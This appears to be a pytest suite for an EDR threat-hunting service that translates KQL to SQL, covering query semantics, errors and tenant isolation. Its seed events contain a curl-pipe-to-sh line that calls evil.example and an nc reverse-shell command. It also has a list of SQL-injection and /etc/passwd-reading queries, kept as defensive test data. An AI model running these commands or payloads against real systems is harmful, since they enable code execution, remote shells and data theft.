"""Advanced hunting: KQL translated to SQL and run on both event-store engines (DuckDB, ClickHouse's
engine via chdb), checked against hand-computed answers; real corpus queries on real imported events
give the same answer on both engines; hostile queries read nothing outside the caller's scope."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from garrison.edr.events import BatchIn, EventStore, open_event_store
from garrison.edr.hunting.service import HuntingError, run, translate
from garrison.edr.hunting.syntax import KqlError

UTC = dt.UTC
# yesterday at noon: recent enough for ClickHouse's retention TTL, fixed hours for bin()
NOW = (dt.datetime.now(UTC) - dt.timedelta(days=1)).replace(hour=12, minute=0, second=0, microsecond=0)
DAY = NOW.strftime("%Y-%m-%d")
DATA = Path(__file__).resolve().parents[1] / "data"


def ts(minutes: float) -> dt.datetime:
    return NOW - dt.timedelta(minutes=minutes)


def proc(t: dt.datetime, pid: int, name: str, cmd: str, **more: Any) -> dict[str, Any]:
    return {"Table": "DeviceProcessEvents", "Timestamp": t, "ActionType": "ProcessCreated", "ProcessId": pid,
            "FileName": name, "FolderPath": f"/usr/bin/{name}", "ProcessCommandLine": cmd, **more}


def seed() -> list[tuple[int, str, list[dict[str, Any]]]]:
    """Tenant 1: d1 and d2; tenant 2: x1 (same names and pids: any leak shows)."""
    out = []
    for tenant, dev in ((1, "d1"), (1, "d2"), (2, "x1")):
        events = [
            proc(ts(90), 100, "bash", "bash -c 'curl http://evil.example/x.sh | sh'", AccountName="root",
                 AdditionalFields={"tags": ["a", "b"], "n": 5, "inner": {"k": "v"}}),
            proc(ts(80), 101, "curl", "curl http://evil.example/x.sh", InitiatingProcessId=100,
                 AccountName=f"user-{dev}"),
            proc(ts(30), 102, "Python3", "python3 -m http.server", AccountName="alice"),
            proc(ts(60 * 24 * 40), 99, "old", "old --too-old"),  # outside the 30-day hunting window
            {"Table": "DeviceNetworkEvents", "Timestamp": ts(79), "ActionType": "ConnectionSuccess",
             "RemoteIP": "8.8.8.8", "RemotePort": 53, "InitiatingProcessId": 101, "InitiatingProcessFileName": "curl"},
            {"Table": "DeviceNetworkEvents", "Timestamp": ts(20), "ActionType": "ConnectionFailed",
             "RemoteIP": "10.0.0.9", "RemotePort": 22, "InitiatingProcessId": 555},
            {"Table": "DeviceLogonEvents", "Timestamp": ts(10), "ActionType": "LogonFailed", "AccountName": "root",
             "LogonType": "RemoteInteractive", "RemoteIP": "203.0.113.7"},
        ]
        if dev == "d2":
            events.append(proc(ts(5), 103, "nc", "nc -e /bin/sh 203.0.113.7 4444", AccountName="root"))
        out.append((tenant, dev, events))
    return out


@pytest.fixture(scope="module", params=["duckdb", "chdb"])
def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[EventStore]:
    tmp = tmp_path_factory.mktemp(request.param)
    s = open_event_store(f"duckdb:///{tmp / 'e.duckdb'}" if request.param == "duckdb" else f"chdb://{tmp / 'ch'}")
    for tenant, dev, events in seed():
        s.write([BatchIn(tenant, dev, f"host-{dev}", 1, events)])
    yield s
    s.close()


def hunt(store: EventStore, query: str, tenant: int = 1, devices: list[str] | None = None, **kw: Any) -> list[dict]:
    return run(store.scope(tenant, devices), query, now=NOW, **kw).results


def col(rows: list[dict], name: str) -> list[Any]:
    return [r[name] for r in rows]


# --- semantics, hand-checked on both engines -------------------------------------------------------------

def test_where_string_operators_follow_kusto_case_rules(store: EventStore) -> None:
    q = "DeviceProcessEvents | where DeviceId == 'd1' and {} | project FileName | sort by FileName asc"
    assert col(hunt(store, q.format('ProcessCommandLine has "CURL"')), "FileName") == ["bash", "curl"]
    # has matches whole terms only: "evil" is a term, "evi" is not
    assert col(hunt(store, q.format('ProcessCommandLine has "evi"')), "FileName") == []
    assert col(hunt(store, q.format('ProcessCommandLine has "evil.example/x"')), "FileName") == ["bash", "curl"]
    assert col(hunt(store, q.format('ProcessCommandLine has_cs "CURL"')), "FileName") == []
    assert col(hunt(store, q.format('ProcessCommandLine contains "HTTP.SERV"')), "FileName") == ["Python3"]
    assert col(hunt(store, q.format('ProcessCommandLine contains_cs "HTTP.SERV"')), "FileName") == []
    assert col(hunt(store, q.format('FileName =~ "PYTHON3"')), "FileName") == ["Python3"]
    assert col(hunt(store, q.format('FileName == "python3"')), "FileName") == []
    assert col(hunt(store, q.format('FileName startswith "py"')), "FileName") == ["Python3"]
    assert col(hunt(store, q.format('FileName endswith "RL"')), "FileName") == ["curl"]
    assert col(hunt(store, q.format('FileName in~ ("BASH", "CURL")')), "FileName") == ["bash", "curl"]
    assert col(hunt(store, q.format('FileName in ("BASH", "curl")')), "FileName") == ["curl"]
    assert col(hunt(store, q.format('FileName !in ("bash", "curl")')), "FileName") == ["Python3"]
    assert col(hunt(store, q.format('ProcessCommandLine matches regex @"x\\.sh$"')), "FileName") == ["curl"]
    assert col(hunt(store, q.format('ProcessCommandLine has_any ("server", "nothing")')), "FileName") == ["Python3"]
    assert col(hunt(store, q.format('ProcessCommandLine has_all ("curl", "BASH")')), "FileName") == ["bash"]
    assert col(hunt(store, q.format('FileName !contains "a"')), "FileName") == ["Python3", "curl"]


def test_hunting_window_and_empty_strings(store: EventStore) -> None:
    # the 40-day-old event is outside the 30-day window; an unset string column is "" (never null)
    rows = hunt(store, "DeviceProcessEvents | where DeviceId == 'd1' | summarize n=count(), "
                       "empty=countif(isempty(SHA256)), notempty=countif(isnotempty(AccountName))")
    assert rows == [{"n": 3, "empty": 3, "notempty": 3}]


def test_summarize_bin_and_aggregates(store: EventStore) -> None:
    rows = hunt(store, "DeviceProcessEvents | summarize Count=count(), Files=dcount(FileName), "
                       "Names=make_set(FileName), Last=max(Timestamp) by DeviceId, bin(Timestamp, 1h) "
                       "| sort by DeviceId asc, Timestamp asc")
    # 10:30 and 10:40 fall in the 10:00 hour; 11:30 (and 11:55 on d2) in the 11:00 hour
    assert [(r["DeviceId"], r["Timestamp"], r["Count"], r["Files"]) for r in rows] == [
        ("d1", f"{DAY}T10:00:00Z", 2, 2), ("d1", f"{DAY}T11:00:00Z", 1, 1),
        ("d2", f"{DAY}T10:00:00Z", 2, 2), ("d2", f"{DAY}T11:00:00Z", 2, 2)]
    assert sorted(rows[0]["Names"]) == ["bash", "curl"]
    assert rows[-1]["Last"] == f"{DAY}T11:55:00Z"


def test_arg_max_returns_the_latest_row_per_group(store: EventStore) -> None:
    rows = hunt(store, "DeviceProcessEvents | summarize arg_max(Timestamp, FileName, ProcessId) by DeviceId "
                       "| sort by DeviceId asc")
    assert [(r["DeviceId"], r["FileName"], r["ProcessId"]) for r in rows] == [("d1", "Python3", 102),
                                                                             ("d2", "nc", 103)]


def test_extend_project_and_dynamic_access(store: EventStore) -> None:
    rows = hunt(store, "DeviceProcessEvents | where DeviceId == 'd1' and FileName == 'bash' "
                       "| extend af = parse_json(AdditionalFields) "
                       "| extend n = toint(af.n) * 2, k = tostring(af.inner.k), first = tostring(af.tags[0]), "
                       "tags = array_length(af.tags), user = strcat(AccountName, '@', DeviceName) "
                       "| project-away af | project n, k, first, tags, user, Word = split(ProcessCommandLine, ' ')[0]")
    assert rows == [{"n": 10, "k": "v", "first": "a", "tags": 2, "user": "root@host-d1", "Word": "bash"}]


def test_project_rename_reorder_away_keep(store: EventStore) -> None:
    r = run(store.scope(1), "DeviceNetworkEvents | where RemotePort == 53 and DeviceId == 'd1' "
                            "| project RemoteIP, RemotePort, DeviceId | project-rename Ip = RemoteIP "
                            "| project-reorder DeviceId | project-away RemotePort", now=NOW)
    assert [c["Name"] for c in r.schema] == ["DeviceId", "Ip"]
    assert r.results == [{"DeviceId": "d1", "Ip": "8.8.8.8"}]
    keep = run(store.scope(1), "DeviceNetworkEvents | project-keep Remote* | take 1", now=NOW)
    assert [c["Name"] for c in keep.schema] == ["RemoteIP", "RemotePort", "RemoteUrl", "RemoteIPType"]


def test_join_kinds(store: EventStore) -> None:
    procs = "DeviceProcessEvents | where DeviceId == 'd1' | project DeviceId, ProcessId, FileName"
    net = "DeviceNetworkEvents | where DeviceId == 'd1' | project DeviceId, InitiatingProcessId, RemoteIP"
    on = "on DeviceId, $left.ProcessId == $right.InitiatingProcessId"
    inner = hunt(store, f"{procs} | join kind=inner ({net}) {on}")
    assert [(r["FileName"], r["RemoteIP"], r["DeviceId1"]) for r in inner] == [("curl", "8.8.8.8", "d1")]
    outer = hunt(store, f"{procs} | join kind=leftouter ({net}) {on} | sort by ProcessId asc")
    assert [(r["FileName"], r["RemoteIP"]) for r in outer] == [("bash", None), ("curl", "8.8.8.8"),
                                                                ("Python3", None)]
    anti = hunt(store, f"{procs} | join kind=leftanti ({net}) {on} | sort by ProcessId asc")
    assert col(anti, "FileName") == ["bash", "Python3"]
    semi = hunt(store, f"{procs} | join kind=leftsemi ({net}) {on}")
    assert semi == [{"DeviceId": "d1", "ProcessId": 101, "FileName": "curl"}]
    right_anti = hunt(store, f"{procs} | join kind=rightanti ({net}) {on}")
    assert col(right_anti, "InitiatingProcessId") == [555]
    # default kind is innerunique: one left row per key
    dup = hunt(store, "DeviceProcessEvents | where DeviceId == 'd1' | project DeviceId "
                      "| join (DeviceLogonEvents | project DeviceId, AccountName) on DeviceId")
    assert len(dup) == 1


def test_union_top_take_distinct_count_let_datatable(store: EventStore) -> None:
    rows = hunt(store, "union withsource=Source DeviceLogonEvents, (DeviceNetworkEvents | where RemotePort == 22) "
                       "| where DeviceId == 'd2' | project Source, RemoteIP | sort by Source asc")
    assert rows == [{"Source": "", "RemoteIP": "10.0.0.9"}, {"Source": "DeviceLogonEvents", "RemoteIP": "203.0.113.7"}]
    top = hunt(store, "DeviceProcessEvents | top 2 by Timestamp desc | project FileName")
    assert col(top, "FileName") == ["nc", "Python3"]
    assert len(hunt(store, "DeviceProcessEvents | take 3")) == 3
    assert sorted(col(hunt(store, "DeviceProcessEvents | distinct FileName"), "FileName")) == \
        ["Python3", "bash", "curl", "nc"]
    assert hunt(store, "DeviceProcessEvents | count") == [{"Count": 7}]
    q = ("let names = dynamic(['nc', 'curl']); let since = ago(1h); "
         "let known = datatable(FileName:string, Risk:long) ['nc', 9, 'bash', 3]; "
         "DeviceProcessEvents | where Timestamp > since and FileName in (names) "
         "| join kind=inner known on FileName | project FileName, Risk")
    assert hunt(store, q) == [{"FileName": "nc", "Risk": 9}]
    assert hunt(store, "let f = (n:string) { strcat('<', n, '>') }; DeviceProcessEvents | where FileName == 'nc' "
                       "| project x = f(FileName)") == [{"x": "<nc>"}]
    assert hunt(store, "let c = toscalar(DeviceProcessEvents | where FileName == 'nc' | count); "
                       "DeviceLogonEvents | where DeviceId == 'd1' | project c") == [{"c": 1}]


def test_datetime_functions(store: EventStore) -> None:
    rows = hunt(store, "DeviceLogonEvents | where DeviceId == 'd1' | project d = startofday(Timestamp), "
                       "age = now() - Timestamp, later = datetime_add('hour', 2, Timestamp), "
                       "m = datetime_diff('minute', now(), Timestamp), "
                       f"inrange = Timestamp between (datetime({DAY}) .. 1d)")
    assert rows == [{"d": f"{DAY}T00:00:00Z", "age": "00:10:00", "later": f"{DAY}T13:50:00Z", "m": 10,
                     "inrange": True}]


def test_parse_operator_and_extract(store: EventStore) -> None:
    rows = hunt(store, "DeviceProcessEvents | where FileName == 'nc' "
                       "| parse ProcessCommandLine with * '-e ' Shell ' ' Ip ' ' Port:long "
                       "| project Shell, Ip, Port, x = extract(@'(\\d+)$', 1, ProcessCommandLine)")
    assert rows == [{"Shell": "/bin/sh", "Ip": "203.0.113.7", "Port": 4444, "x": "4444"}]


def test_mv_expand(store: EventStore) -> None:
    rows = hunt(store, "DeviceProcessEvents | where DeviceId == 'd1' and FileName == 'bash' "
                       "| extend t = parse_json(AdditionalFields).tags | mv-expand t | project t = tostring(t)")
    assert sorted(col(rows, "t")) == ["a", "b"]


# --- errors: by name and position, never a 500 or a wrong answer ----------------------------------------------

@pytest.mark.parametrize(("query", "message"), [
    ("DeviceProcessEvents | make-series count() on Timestamp step 1h", "'make-series' operator is not supported (line 1, column 23)"),
    ("DeviceProcessEvents\n| where FileName == 'x'\n| evaluate bag_unpack(x)", "'evaluate' operator is not supported (line 3, column 3)"),
    ("DeviceProcessEvents | where NoSuchColumn == 1", "unknown column or name 'NoSuchColumn' (line 1, column 29)"),
    ("DeviceProcessEvents | extend x = frobnicate(FileName)", "unknown function 'frobnicate' (line 1, column 34)"),
    ("EmailEvents | take 1", "unknown table 'EmailEvents'"),
    ("DeviceProcessEvents | where FileName == 'unterminated", "unterminated string"),
    ("DeviceProcessEvents | where FileName", "expected a true/false condition"),
])
def test_unsupported_constructs_are_named_with_their_position(query: str, message: str) -> None:
    with pytest.raises(KqlError) as info:
        translate(query)
    assert message in str(info.value)


# --- safety: nothing outside the caller's tenant and device groups ------------------------------------------------

HOSTILE = [
    "EventBatches | take 10",
    "DeviceProcessEvents | where TenantId == 2",
    "DeviceProcessEvents | where FileName == \"x\" or 1 == 1 | project FileName, DeviceId",
    "DeviceProcessEvents | where FileName == \"'; DROP TABLE DeviceProcessEvents; --\"",
    "DeviceProcessEvents | where FileName == '\\' OR TenantId = 2 --'",
    "DeviceProcessEvents | where FileName has \"x') OR 1=1 --\"",
    "union DeviceProcessEvents, DeviceNetworkEvents, DeviceLogonEvents | project DeviceId",
    "DeviceProcessEvents | join kind=fullouter (DeviceNetworkEvents) on DeviceId | project DeviceId, DeviceId1",
    "let t = DeviceProcessEvents; t | union t | project DeviceId",
    "DeviceProcessEvents | extend x = read_csv('/etc/passwd')",
    "DeviceProcessEvents | extend x = file('/etc/passwd')",
    "DeviceProcessEvents | extend x = url('http://127.0.0.1/')",
    "DeviceProcessEvents | extend x = database()",
    "read_csv('/etc/passwd')",
    "url('http://127.0.0.1:1/', CSV) | take 1",
    "DeviceProcessEvents | project ['FileName\" FROM EventBatches --'] = FileName",
    "externaldata(x:string) ['https://example.com/x.txt']",
    "DeviceProcessEvents | evaluate sql_request('x')",
    "DeviceProcessEvents | where DeviceId in (\"x1\") | take 5",
]


@pytest.mark.parametrize("query", HOSTILE)
def test_hostile_queries_read_only_the_callers_scope(store: EventStore, query: str) -> None:
    try:
        rows = hunt(store, query, tenant=1, devices=["d1"])
    except (KqlError, HuntingError):
        return  # refused: fine
    for r in rows:
        for key, value in r.items():
            if key.startswith("DeviceId"):
                assert value in ("d1", None), (query, r)
        assert "x1" not in json.dumps(r, default=str)
        assert not any(str(v).startswith("user-d2") or str(v).startswith("user-x1") for v in r.values())


def test_a_limited_caller_sees_only_its_devices_and_tenant(store: EventStore) -> None:
    q = "DeviceProcessEvents | summarize n = count() by DeviceId | sort by DeviceId asc"
    assert hunt(store, q) == [{"DeviceId": "d1", "n": 3}, {"DeviceId": "d2", "n": 4}]
    assert hunt(store, q, devices=["d2"]) == [{"DeviceId": "d2", "n": 4}]
    assert hunt(store, q, devices=[]) == []
    assert hunt(store, q, tenant=2) == [{"DeviceId": "x1", "n": 3}]
    assert hunt(store, q, tenant=3) == []


def test_injection_in_literals_is_data(store: EventStore) -> None:
    sneaky = "x' OR '1'='1"
    rows = hunt(store, f"DeviceProcessEvents | where FileName == @\"{sneaky}\" | count")
    assert rows == [{"Count": 0}]
    rows = hunt(store, "print x = 1" if False else "DeviceProcessEvents | where FileName == 'nc' "
                "| project s = strcat(@\"a'b\\c\", FileName)")
    assert rows == [{"s": "a'b\\cnc"}]


def test_row_cap_says_truncated(store: EventStore) -> None:
    r = run(store.scope(1), "DeviceProcessEvents", now=NOW, max_rows=2)
    assert len(r.results) == 2 and r.truncated
    r = run(store.scope(1), "DeviceProcessEvents", now=NOW, max_rows=7)
    assert len(r.results) == 7 and not r.truncated


def test_a_long_query_is_stopped_at_the_timeout(store: EventStore) -> None:
    # 7 rows joined with themselves ten times: 7**10 (282 million) rows to count
    q = ("let t = DeviceProcessEvents | project k = 1; t" + " | join kind=inner t on k" * 10 + " | count")
    with pytest.raises(HuntingError, match="longer than|Timeout exceeded"):
        run(store.scope(1), q, now=NOW, timeout_s=1)


def test_print_ip_functions_and_typed_extracts(store: EventStore) -> None:
    rows = hunt(store, "print a = ipv4_is_private('172.20.1.1'), b = ipv4_is_private('8.8.8.8'), "
                       "c = ipv4_is_in_range('10.1.2.3', '10.0.0.0/8'), d = ipv4_is_in_range('11.1.2.3', '10.0.0.0/8'), "
                       "e = extractjson('$.a', '{\"a\": 5}', typeof(int)) + 1, f = extract('x(\\\\d+)', 1, 'x42', typeof(long)), "
                       "g = 'TEST' =~ 'test', h = 'TEST' == 'test', i = url_decode('a%20b%2Fc')")
    assert rows == [{"a": True, "b": False, "c": True, "d": False, "e": 6, "f": 42, "g": True, "h": False,
                     "i": "a b/c"}]
    rows = hunt(store, "DeviceNetworkEvents | where DeviceId == 'd1' and ipv4_is_private(RemoteIP) | project RemoteIP")
    assert rows == [{"RemoteIP": "10.0.0.9"}]


def test_parse_url_and_named_arg_max(store: EventStore) -> None:
    rows = hunt(store, "print u = parse_url('https://user:pw@www.Example.com:8443/a/b.php?x=1#frag') "
                       "| project h = tostring(u.Host), p = toint(u.Port), s = tostring(u.Scheme), path = tostring(u.Path)")
    assert rows == [{"h": "www.Example.com", "p": 8443, "s": "https", "path": "/a/b.php"}]
    rows = hunt(store, "DeviceProcessEvents | summarize (Last, Name) = arg_max(Timestamp, FileName), n = count() "
                       "by DeviceId | project DeviceId, Name, n | sort by DeviceId asc")
    assert rows == [{"DeviceId": "d1", "Name": "Python3", "n": 3}, {"DeviceId": "d2", "Name": "nc", "n": 4}]


def test_lookup_adds_the_right_sides_columns_without_repeating_the_key(store: EventStore) -> None:
    q = ("DeviceProcessEvents | where DeviceId == 'd1' | project FileName, ProcessId "
         "| lookup (datatable(FileName:string, Risk:long) ['curl', 5]) on FileName | sort by ProcessId asc")
    r = run(store.scope(1), q, now=NOW)
    assert [c["Name"] for c in r.schema] == ["FileName", "ProcessId", "Risk"]
    assert [(x["FileName"], x["Risk"]) for x in r.results] == [("bash", None), ("curl", 5), ("Python3", None)]


def test_search_across_tables_and_within_one(store: EventStore) -> None:
    rows = hunt(store, 'search "evil" | summarize n = count() by ["$table"] | sort by ["$table"] asc')
    # the connection matches through its initiating process's command line (linked at ingest)
    assert rows == [{"$table": "DeviceNetworkEvents", "n": 2}, {"$table": "DeviceProcessEvents", "n": 4}]
    rows = hunt(store, "search in (DeviceLogonEvents, DeviceNetworkEvents) RemoteIP == '10.0.0.9' or RemoteIP == "
                       "'203.0.113.7' | where DeviceId == 'd1' | project ['$table'], RemoteIP | sort by RemoteIP asc")
    assert rows == [{"$table": "DeviceNetworkEvents", "RemoteIP": "10.0.0.9"},
                    {"$table": "DeviceLogonEvents", "RemoteIP": "203.0.113.7"}]
    # a table without a column the predicate names has no match
    rows = hunt(store, "search in (DeviceLogonEvents, DeviceNetworkEvents) LogonType == 'RemoteInteractive' "
                       "| where DeviceId == 'd1' | project ['$table']")
    assert rows == [{"$table": "DeviceLogonEvents"}]
    rows = hunt(store, "DeviceProcessEvents | where DeviceId == 'd2' | search 'curl' and 'sh' | project FileName "
                       "| sort by FileName asc")
    assert col(rows, "FileName") == ["bash", "curl"]
